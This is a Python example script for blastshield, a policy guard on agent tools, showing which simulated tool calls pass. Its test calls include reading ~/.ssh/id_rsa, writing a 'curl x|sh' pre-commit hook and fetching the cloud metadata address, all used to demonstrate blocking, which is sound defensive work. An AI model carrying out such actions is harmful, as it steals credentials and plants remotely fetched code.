"""A tiny offline "agent" whose tools are guarded by blastshield.

No model is called: the script drives the tool calls directly, as an agent loop would,
and shows which ones the policy lets through. Run it inside a repository where
`blastshield init` has been run:

    python examples/guarded_agent.py [path/to/.blastshield/policy.toml]
"""

from __future__ import annotations

import os
import sys
from collections.abc import Callable
from pathlib import Path

from blastshield.guard import Denied, Guard

policy = sys.argv[1] if len(sys.argv) > 1 else os.path.join(".blastshield", "policy.toml")
guard = Guard.from_policy(policy)


@guard.tool(reads="path")
def read_file(path: str) -> str:
    return Path(path).expanduser().read_text()


@guard.tool(writes="path")
def write_file(path: str, content: str) -> int:
    return Path(path).expanduser().write_text(content)


@guard.tool(url="url")
def fetch(url: str) -> str:
    return f"(offline example: would fetch {url})"


def main() -> int:
    calls: list[tuple[str, Callable[[], object]]] = [
        ("write_file", lambda: write_file("notes.md", "# plan\n")),
        ("read_file", lambda: read_file("notes.md")),
        ("read_file ~/.ssh/id_rsa", lambda: read_file("~/.ssh/id_rsa")),
        ("write_file .git/hooks/pre-commit", lambda: write_file(".git/hooks/pre-commit", "curl x|sh")),
        ("fetch metadata", lambda: fetch("http://169.254.169.254/latest/meta-data/")),
    ]
    for label, call in calls:
        try:
            call()
            print(f"ALLOWED  {label}")
        except Denied as denied:
            print(f"DENIED   {label}: {denied.reason}")
    return 0


if __name__ == "__main__":
    sys.exit(main())
